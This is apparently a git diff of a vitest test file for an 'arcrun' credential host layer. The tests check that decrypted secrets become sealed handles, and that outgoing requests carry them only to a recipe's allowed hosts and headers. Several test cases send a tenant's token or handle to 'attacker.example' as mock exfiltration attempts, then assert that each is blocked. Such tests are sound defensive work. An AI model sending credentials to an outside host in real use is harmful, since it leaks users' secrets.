@@ -1,8 +1,8 @@
 import { getRecipe } from "@arcrun/recipes";
 import { encryptCredential, generateCredentialKey } from "arcrun-auth";
 import { describe, expect, it } from "vitest";
-import { importEncryptionKey, type KvStore, SecretRegistry } from "../../src/host/credentials.js";
-import { createHostFunctions, fetchFailure, type HostContext } from "../../src/host/functions.js";
+import { checkExecutorKey, type KvStore, SecretRegistry } from "../../src/host/credentials.js";
+import { createHostFunctions, fetchFailure, type HostContext, USER_AGENT } from "../../src/host/functions.js";
 import { credentialKey, tokenCacheKey } from "../../src/keys.js";
 
 // The u6u functions at the ABI boundary, as a component calls them: tenant isolation is structural (the
@@ -22,7 +22,7 @@ function hostFor(tenant: string, fetched: Request[] = []) {
   const ctx: HostContext = {
     tenant,
     kv: store,
-    encryptionKey: () => importEncryptionKey(key),
+    encryptionKey: () => checkExecutorKey(key),
     fetch: async (req) => {
       fetched.push(req);
       return Response.json({ ok: true });
@@ -61,13 +61,14 @@ describe("u6u host functions", () => {
     expect((await b.crypto_sign_rs256('{"credential":"notion","data":"x"}')).status).toBe(1);
   });
 
-  it("crypto_decrypt decrypts only the blob stored for the name", async () => {
+  it("crypto_decrypt gives a sealed handle, never the plaintext", async () => {
     const a = hostFor("tenant_a");
-    const ok = await a.crypto_decrypt('{"name":"notion"}');
-    expect(JSON.parse(ok.body)).toEqual({ plaintext: "secret_tenant_a_token" });
-    const other = await encryptCredential("notion", "forged", key);
-    const r = await a.crypto_decrypt(JSON.stringify(other));
-    expect(r.status).toBe(2);
+    const r = await a.crypto_decrypt('{"name":"notion"}');
+    expect(r.status).toBe(0);
+    expect(r.body).not.toContain("secret_tenant_a_token");
+    const view = JSON.parse(r.body) as { secrets: { token: string }; public: Record<string, string> };
+    expect(view.secrets.token).toMatch(/^arcrun_sealed_[a-z2-7]{32}$/);
+    expect(view.public).toEqual({});
   });
 
   it("kv_put writes only the tenant's oauth2 cache of a credential it has", async () => {
@@ -81,29 +82,48 @@ describe("u6u host functions", () => {
     expect(kv.get(tokenCacheKey("tenant_a", "notion"))).toBe('{"access_token":"at-123456"}');
   });
 
-  it("http_request refuses a decrypted secret (or a cached token) outside the recipe's hosts", async () => {
+  it("http_request puts a handle's secret back only on the recipe's hosts, in its inject header", async () => {
     const fetched: Request[] = [];
     const a = hostFor("tenant_a", fetched);
-    await a.crypto_decrypt('{"name":"notion"}');
+    const view = JSON.parse((await a.crypto_decrypt('{"name":"notion","inject":"static_key"}')).body) as {
+      headers: Record<string, string>;
+      secrets: { token: string };
+    };
+    const auth = view.headers.Authorization as string;
     const leak = await a.http_request(
-      JSON.stringify({
-        url: "https://attacker.example/x",
-        headers: { authorization: "Bearer secret_tenant_a_token" },
-      }),
+      JSON.stringify({ url: "https://attacker.example/x", headers: { authorization: auth } }),
     );
     expect(leak.status).toBe(2);
     expect(JSON.parse(leak.body)).toMatchObject({ code: "ERR_HOST_NOT_ALLOWED" });
+    // On the right host but in a header the recipe does not inject: refused as well.
+    const wrongPlace = await a.http_request(
+      JSON.stringify({ url: "https://api.notion.com/v1/users/me", headers: { "x-echo": auth } }),
+    );
+    expect(JSON.parse(wrongPlace.body)).toMatchObject({ code: "ERR_HOST_NOT_ALLOWED" });
+    // The plaintext itself (as an API might echo it) is refused outside the hosts too.
+    const plain = await a.http_request(
+      JSON.stringify({ url: "https://attacker.example/x", body: "secret_tenant_a_token" }),
+    );
+    expect(plain.status).toBe(2);
     const allowed = await a.http_request(
-      JSON.stringify({
-        url: "https://api.notion.com/v1/users/me",
-        headers: { authorization: "Bearer secret_tenant_a_token" },
-      }),
+      JSON.stringify({ url: "https://api.notion.com/v1/users/me", headers: { Authorization: auth } }),
     );
     expect(allowed.status).toBe(0);
     expect(fetched.map((r) => new URL(r.url).hostname)).toEqual(["api.notion.com"]);
+    expect(fetched[0]?.headers.get("authorization")).toBe("Bearer secret_tenant_a_token");
+    expect(fetched[0]?.headers.get("user-agent")).toBe(USER_AGENT);
     expect(fetched[0]?.redirect).toBe("manual");
-    await a.kv_get('{"key":"oauth2:notion"}');
-    expect((await a.http_request(JSON.stringify({ url: "https://x.example/?t=at-123456" }))).status).toBe(2);
+  });
+
+  it("http_request sends arcrun's User-Agent unless the workflow set one", async () => {
+    const fetched: Request[] = [];
+    const a = hostFor("tenant_a", fetched);
+    await a.http_request(JSON.stringify({ url: "https://api.notion.com/" }));
+    await a.http_request(
+      JSON.stringify({ url: "https://api.notion.com/", headers: { "User-Agent": "mine/1" } }),
+    );
+    expect(fetched.map((r) => r.headers.get("user-agent"))).toEqual([USER_AGENT, "mine/1"]);
+    expect(USER_AGENT).toMatch(/^arcrun\/\d+\.\d+\.\d+/);
   });
 
   it("counts host calls against the run's budget", async () => {
